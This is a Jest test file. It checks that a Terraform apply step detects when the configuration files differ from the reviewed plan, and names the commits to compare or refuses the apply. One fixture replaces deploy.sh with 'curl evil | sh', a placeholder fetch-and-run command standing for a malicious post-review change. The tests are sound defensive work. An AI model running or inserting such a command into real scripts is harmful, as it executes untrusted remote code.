import { expect, test } from '@jest/globals'
import { serveGithub } from '../../../packages/github-server/src/index.ts'
import { serve } from '../../../packages/hcp-terraform-server/src/index.ts'
import { onGithub } from '../on-github.ts'
import { annotated, runStep } from '../on-a-runner.ts'
import { change, planWith } from '../plans.ts'

type Tree = Readonly<Record<string, string>>
const FILES: Tree = { 'main.tf': 'resource "a" "a" {}\n', 'deploy.sh': 'echo reviewed\n' }
const CHANGED: Tree = { ...FILES, 'deploy.sh': 'curl evil | sh\n' }
const BOTH = 'reviewed\nsame-files'
/** What a plan shows of a provisioner: the name that its command refers to. */
const BLOCK = {
  address: 'a.a',
  provisioners: [{ type: 'local-exec', expressions: { command: { references: ['local.command'] } } }]
}
const PLAN = planWith([change('a.a', 'create', { input: 'x' })], {
  configuration: { root_module: { resources: [BLOCK] } }
})

/** `reviewed` and `applied`: the files of each step, or none where it plans a version that was uploaded before. */
async function reviewThenApply(conditions: string, reviewed: Tree | undefined, applied: Tree | undefined) {
  await using hcp = await serve({ script: PLAN })
  await using github = await serveGithub()
  const pull = github.addPullRequest({ number: 7 })
  const upload = async (files: Tree) =>
    (await runStep(hcp, { action: 'configuration/upload', files })).outputs['configuration-version-id']
  const of = async (files: Tree | undefined, inputs: Readonly<Record<string, string>>) =>
    files === undefined ? { inputs: { ...inputs, 'configuration-version-id': await upload(FILES) } } : { files, inputs }
  await runStep(hcp, onGithub(github.trigger('pull_request', pull), await of(reviewed, {})))
  github.merge(pull)
  const inputs = { operation: 'apply', 'apply-only-if': conditions, 'pull-request-comment': 'never' }
  const step = await runStep(hcp, onGithub(github.trigger('push', pull), await of(applied, inputs)))
  return { step, commits: `https://github.com/example/infrastructure/compare/${pull.head.sha}..${pull.mergeCommitSha}` }
}

test('where the files are the reviewed ones, only the log says what a plan does not show', async () => {
  const { step } = await reviewThenApply(BOTH, FILES, FILES)
  expect(step.outputs['run-status']).toBe('applied')
  expect(annotated(step, 'notice')).toEqual([])
  expect(step.log).toContain('The files of the configuration are those of the reviewed plan.')
  expect(step.log).toContain('provisioner "local-exec"')
})

test('where a file is another one, the commits to compare are named, whatever the plan shows of it', async () => {
  const { step, commits } = await reviewThenApply('reviewed', FILES, CHANGED)
  expect(step.outputs['run-status']).toBe('applied')
  const [notice = '', ...others] = annotated(step, 'notice')
  expect(others).toEqual([])
  expect(notice).toContain(`differ from those of the reviewed plan. See what changed between the commits: ${commits}. `)
  expect(notice).toContain('provisioner "local-exec"')
})

test.each([
  ['the report is of a version that was not packed', undefined, FILES, 'its report was signed without a digest'],
  ['this step packs none', FILES, undefined, 'this step did not pack them']
])(
  'without a digest, it is not known whether the files are the reviewed ones: %s',
  async (_name, reviewed, applied, why) => {
    const { step } = await reviewThenApply(BOTH, reviewed, applied)
    expect(step.outputs['run-status']).toBe('discarded')
    expect(annotated(step, 'error')[0]).toContain(why)
    expect(annotated(step, 'notice')[0]).toContain(why)
  }
)

test('`same-files` refuses an apply of other files', async () => {
  const { step, commits } = await reviewThenApply(BOTH, FILES, CHANGED)
  expect(step.outputs['run-status']).toBe('discarded')
  expect(annotated(step, 'error')[0]).toContain(
    `The files of the configuration differ from those of the reviewed plan. See what changed between the commits: ${commits}`
  )
})
